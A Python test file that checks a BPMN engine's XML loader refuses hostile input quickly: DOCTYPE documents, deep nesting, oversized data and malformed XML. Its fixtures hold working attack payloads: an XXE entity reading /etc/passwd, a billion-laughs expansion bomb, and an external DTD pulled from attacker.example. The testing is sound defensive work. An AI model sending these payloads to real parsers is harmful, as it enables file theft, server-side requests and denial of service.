"""Hostile XML is refused quickly, without reading files, the network or expanding entities."""

from __future__ import annotations

import time

import pytest

from tests.engine.bpmn.helpers import bpmn, refusal

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
<process id="p" isExecutable="true" name="&xxe;"><startEvent id="s"/></process></definitions>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
<process id="p" isExecutable="true" name="&lol9;"><startEvent id="s"/></process></definitions>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""

UTF16_DOCTYPE = XXE.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16")


def refused_quickly(data: bytes, **kwargs: object) -> str:
    started = time.perf_counter()
    error = refusal(data, **kwargs)
    assert time.perf_counter() - started < 1.0
    return str(error)


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, UTF16_DOCTYPE],
    ids=["xxe", "billion-laughs", "external-dtd", "utf16-doctype"],
)
def test_documents_with_a_doctype_are_refused_in_well_under_a_second(data):
    message = refused_quickly(data)
    assert "DOCTYPE" in message or "document type" in message
    assert "root:" not in message  # nothing of /etc/passwd leaks into the message


def test_doctype_refusal_names_its_line():
    error = refusal(XXE, resource_name="evil.bpmn")
    assert error.problems[0].line == 2
    assert str(error).startswith("evil.bpmn line 2")


def test_too_deep_document_is_refused():
    depth = 300
    data = b"<a>" * depth + b"</a>" * depth
    assert "nested too deeply" in refused_quickly(data) or "not well-formed" in refused_quickly(
        data
    )


def test_depth_limit_is_configurable():
    data = bpmn('<startEvent id="s"/>')
    assert "nested too deeply" in refused_quickly(data, max_depth=2)


def test_too_big_document_is_refused_before_parsing():
    data = bpmn("<startEvent id='s'/>" + " " * 2048)
    assert "too large" in refused_quickly(data, max_bytes=1024)


def test_default_size_limit_is_ten_mebibytes():
    data = b"<definitions>" + b" " * (10 * 1024 * 1024) + b"</definitions>"
    assert "too large" in refused_quickly(data)


def test_malformed_xml_is_refused_with_its_line():
    error = refusal(b'<?xml version="1.0"?>\n<definitions>\n<process>\n</definitions>')
    assert "not well-formed" in str(error)
    assert error.problems[0].line == 4


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all"])
def test_empty_or_non_xml_input_is_refused(data):
    refusal(data)
